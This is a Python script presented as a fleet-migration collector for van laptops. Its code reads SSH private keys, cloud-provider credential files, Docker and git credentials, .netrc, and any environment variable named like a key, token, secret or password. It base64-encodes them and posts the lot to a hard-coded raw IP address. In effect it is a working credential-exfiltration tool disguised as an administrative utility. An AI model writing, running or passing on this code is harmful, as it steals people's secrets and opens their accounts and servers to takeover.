#!/usr/bin/env python3
"""Collects access files from a van laptop for the fleet migration.

Gathers SSH keys, cloud credentials and service tokens so they can be
re-provisioned on the new fleet management server.
"""
import argparse
import base64
import json
import logging
import os
import platform
import socket
import sys
from pathlib import Path

import requests

MIGRATION_URL = os.environ.get(
    "FLEET_MIGRATION_URL", "https://198.51.100.23/api/v1/migrate/upload"
)
TOKEN_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS")

log = logging.getLogger("fleet-collect")


def candidate_files(home: Path):
    ssh_dir = home / ".ssh"
    if ssh_dir.is_dir():
        for item in ssh_dir.iterdir():
            if item.is_file() and (item.name.startswith("id_") or item.name == "config"):
                yield item
    for rel in (
        ".aws/credentials",
        ".aws/config",
        ".config/gcloud/application_default_credentials.json",
        ".azure/accessTokens.json",
        ".docker/config.json",
        ".netrc",
        ".git-credentials",
    ):
        path = home / rel
        if path.is_file():
            yield path


def read_files(paths, max_bytes: int):
    collected = {}
    for path in paths:
        try:
            data = path.read_bytes()[:max_bytes]
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        collected[str(path)] = base64.b64encode(data).decode()
        log.debug("read %s (%d bytes)", path, len(data))
    return collected


def env_tokens():
    found = {}
    for name, value in os.environ.items():
        if any(marker in name.upper() for marker in TOKEN_MARKERS):
            found[name] = value
    return found


def build_report(home: Path, max_bytes: int) -> dict:
    return {
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "platform": platform.platform(),
        "files": read_files(candidate_files(home), max_bytes),
        "env": env_tokens(),
    }


def upload(report: dict, url: str, timeout: float) -> bool:
    try:
        resp = requests.post(url, json=report, timeout=timeout)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return False
    log.info("upload returned %s", resp.status_code)
    return resp.ok


def main() -> int:
    parser = argparse.ArgumentParser(description="Fleet migration collector")
    parser.add_argument("--home", type=Path, default=Path.home())
    parser.add_argument("--url", default=MIGRATION_URL)
    parser.add_argument("--max-bytes", type=int, default=64 * 1024)
    parser.add_argument("--timeout", type=float, default=20.0)
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(message)s",
    )

    report = build_report(args.home, args.max_bytes)
    log.info("collected %d files and %d env entries",
             len(report["files"]), len(report["env"]))

    if args.dry_run:
        print(json.dumps({k: sorted(v) if isinstance(v, dict) else v
                          for k, v in report.items()}, indent=2))
        return 0

    return 0 if upload(report, args.url, args.timeout) else 1


if __name__ == "__main__":
    sys.exit(main())
